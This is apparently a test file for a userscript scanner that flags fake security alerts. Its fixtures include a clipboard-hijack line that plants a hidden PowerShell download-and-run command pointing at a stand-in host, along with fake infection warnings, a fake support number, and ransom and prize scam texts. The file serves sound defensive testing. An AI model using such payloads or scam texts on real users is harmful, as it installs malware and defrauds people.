import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { fakeAlert } from "./fake-alert.ts";

describe("fake-alert", () => {
	test("finds an invented warning and the command that comes with it", () => {
		const body = [
			`alert("Your computer is infected. Press Win+R, then Ctrl+V.")`,
			`navigator.clipboard.writeText("powershell -w hidden iwr https://c.stranger.test/a | iex")`,
		].join("\n");
		expect(findIn(fakeAlert, userscript(["match *://*/*"], body))).toEqual(["medium 5", "high 6"]);
	});

	test.each([
		[
			"threats in a shadow root",
			`const h=document.createElement("div");h.attachShadow({mode:"closed"}).innerHTML="<style>.c{inset:0}</style><h1>7 threats found on this computer</h1>";document.body.append(h)`,
		],
		[
			"a blocked computer in an element of its own",
			`const h=document.createElement("p");h.textContent="Access to this device was blocked for your safety.";document.body.append(h)`,
		],
		[
			"a support line",
			`const h=document.createElement("p");h.append("Call our technicians: +1-555-0142-870 (toll free)");document.body.append(h)`,
		],
		["a page given back for money", `document.body.innerHTML="<h1>Trial over. Pay the licence to continue.</h1>"`],
		["a notification", `new Notification("Windows", { body: "Virus detected on your PC" })`],
		["another language", `alert("Ihr Computer ist infiziert!")`],
		[
			"a prize in a template",
			`document.body.insertAdjacentHTML("beforeend",\`<b>Congratulations, visitor \${location.host}! You are a winner</b>\`)`,
		],
		["a ransom", `document.body.innerHTML="<p>Send 0.004 BTC within 72 hours and enter your release code.</p>"`],
	])("finds %s", (_title, body) => {
		expect(findIn(fakeAlert, userscript(["match *://*/*"], body))).toEqual(["medium 5"]);
	});

	test.each([
		[
			"an address for thanks",
			`document.body.insertAdjacentHTML("beforeend","<p>Donate bitcoin: bc1qexampl3exampl3exampl3exampl3exampl3x</p>")`,
		],
		[
			"a round of a game",
			`const h=document.createElement("p");h.textContent="Congratulations, you won the round!";document.body.append(h)`,
		],
		["an old browser", `alert("Your browser is not supported.")`],
		[
			"a telephone number",
			`const h=document.createElement("p");h.textContent="Call the shop: +1-555-0142-870";document.body.append(h)`,
		],
		[
			"a list of warnings to hide",
			`const BAD=/your computer is infected|threats found/i;document.querySelectorAll("div").forEach(d=>{if(BAD.test(d.textContent))d.hidden=true})`,
		],
		["a note of a virus scanner's log", `document.title="0 of 12 files had a virus"`],
		["a copied command without a source", `navigator.clipboard.writeText("git status")`],
		["a reminder", `alert("Time for a break")`],
	])("leaves alone %s", (_title, body) => {
		expect(findIn(fakeAlert, userscript(["match *://*/*"], body))).toEqual([]);
	});
});
